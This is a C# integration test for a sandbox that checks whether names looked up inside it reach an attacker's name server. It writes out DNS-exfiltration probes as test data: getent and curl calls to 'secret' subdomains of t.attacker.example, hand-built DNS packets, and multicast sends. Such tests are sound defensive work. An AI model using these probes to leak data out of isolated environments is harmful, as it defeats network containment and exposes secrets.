using System.Net;
using System.Net.Sockets;

namespace Sandbox.Integration.Tests;

/// <summary>NW-11: a name that is looked up inside tells nobody outside anything.</summary>
public sealed class NameExfiltrationTests
{
    private const string Domain = "t.attacker.example";

    /// <summary>The launcher's machine asks a name server of the attacker, as every machine in effect does.</summary>
    [TheoryWithin(60), ClassData(typeof(IdentityData))]
    public void A_name_server_that_the_host_asks_sees_no_name_of_the_sandbox_unless_a_rule_allows_it(Identity identity)
    {
        TestHost.RequireRoot();
        using Workspace workspace = Workspace.Create(identity);
        using AttackerNames server = new();
        string configuration = workspace.Write(workspace.At("resolv.conf"), $"nameserver {server.Address}\noptions timeout:1 attempts:1\n");
        string mounted = $"mount --bind {configuration} /etc/resolv.conf && exec \"$@\"";
        string lookups = string.Join('\n',
            $"getent hosts secret1.{Domain}",
            $"getent ahosts secret2.{Domain}.",
            $"curl -s -m3 http://secret3.{Domain}/",
            $"curl -s -m3 --noproxy '*' http://secret4.{Domain}/",
            $"curl -s -m3 --noproxy '*' --proxy socks5h://127.0.0.1:3128 http://secret5.{Domain}/",
            $"/usr/bin/python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'\\\\0\\\\1\\\\1\\\\0\\\\0\\\\1\\\\0\\\\0\\\\0\\\\0\\\\0\\\\0\\\\7secret6\\\\1t\\\\10attacker\\\\7example\\\\0\\\\0\\\\20\\\\0\\\\1', ('{server.Address}', 53))\"",
            $"/usr/bin/python3 -c \"import socket; [socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret7', (a, p)) for a, p in (('224.0.0.251', 5353), ('224.0.0.252', 5355))]\"",
            $"/usr/bin/python3 -c \"import socket; socket.create_connection(('{server.Address}', 53), 2).send(b'\\\\0\\\\42secret8')\"",
            "true");

        _ = Run(["exec", "-q", workspace.Project, "--", "/bin/sh", "-c", lookups]).ExpectExit();
        Assert.DoesNotContain("secret", server.Asked, StringComparison.Ordinal);
        Assert.DoesNotContain("attacker", server.Asked, StringComparison.Ordinal);

        // A rule for the domain: still nothing for a look-up alone, and one question for a connection.
        _ = Run(["exec", "-q", "--allow", $"*.{Domain}", workspace.Project, "--", "/bin/sh", "-c", $"getent hosts only-looked-up.{Domain}; curl -s -m3 http://dialled.{Domain}/; true"]).ExpectExit();
        Assert.DoesNotContain("looked-up", server.Asked, StringComparison.Ordinal);
        Assert.Contains("dialled", server.Asked, StringComparison.Ordinal);

        // The control: on the host's network every one of them goes out.
        _ = Run(["exec", "-q", "--network", "host", workspace.Project, "--", "/bin/sh", "-c", lookups]).ExpectExit();
        foreach (string name in new[] { "secret1", "secret2", "secret3", "secret4", "secret6", "secret8" })
        {
            Eventually.Holds(() => server.Asked.Contains(name, StringComparison.Ordinal), $"{name} has gone out");
        }

        ProcessResult Run(IReadOnlyList<string> arguments)
        {
            ProcessRequest request = workspace.Sandbox(arguments);
            return ProcessRun.Run(request with { FileName = "/usr/bin/unshare", Arguments = ["--mount", "--", "/bin/sh", "-c", mounted, "sh", request.FileName, .. request.Arguments] });
        }
    }

    /// <summary>A name server on a loopback address of its own that keeps what it is asked and knows nothing.</summary>
    private sealed class AttackerNames : IDisposable
    {
        private readonly Socket _udp = new(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
        private readonly Socket _tcp = new(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        private readonly System.Collections.Concurrent.ConcurrentQueue<string> _asked = new();

        public AttackerNames()
        {
            byte[] bytes = Guid.NewGuid().ToByteArray();
            Address = new IPAddress([127, bytes[0], bytes[1], (byte)(bytes[2] | 1)]);
            _udp.Bind(new IPEndPoint(Address, 53));
            _tcp.Bind(new IPEndPoint(Address, 53));
            _tcp.Listen();
            _ = AnswerAsync();
            _ = AcceptAsync();
        }

        public IPAddress Address { get; }

        public string Asked => string.Join('\n', _asked);

        public void Dispose()
        {
            _udp.Dispose();
            _tcp.Dispose();
        }

        private async Task AnswerAsync()
        {
            byte[] buffer = new byte[4096];
            while (true)
            {
                try
                {
                    SocketReceiveFromResult got = await _udp.ReceiveFromAsync(buffer, new IPEndPoint(IPAddress.Any, 0));
                    _asked.Enqueue(System.Text.Encoding.Latin1.GetString(buffer, 0, got.ReceivedBytes));
                    (buffer[2], buffer[3]) = (0x81, 0x83);
                    _ = await _udp.SendToAsync(buffer.AsMemory(0, got.ReceivedBytes), got.RemoteEndPoint);
                }
                catch (Exception e) when (e is SocketException or ObjectDisposedException)
                {
                    return;
                }
            }
        }

        private async Task AcceptAsync()
        {
            byte[] buffer = new byte[4096];
            while (true)
            {
                try
                {
                    using Socket client = await _tcp.AcceptAsync();
                    int count = await client.ReceiveAsync(buffer);
                    _asked.Enqueue(System.Text.Encoding.Latin1.GetString(buffer, 0, count));
                }
                catch (Exception e) when (e is SocketException or ObjectDisposedException)
                {
                    return;
                }
            }
        }
    }
}
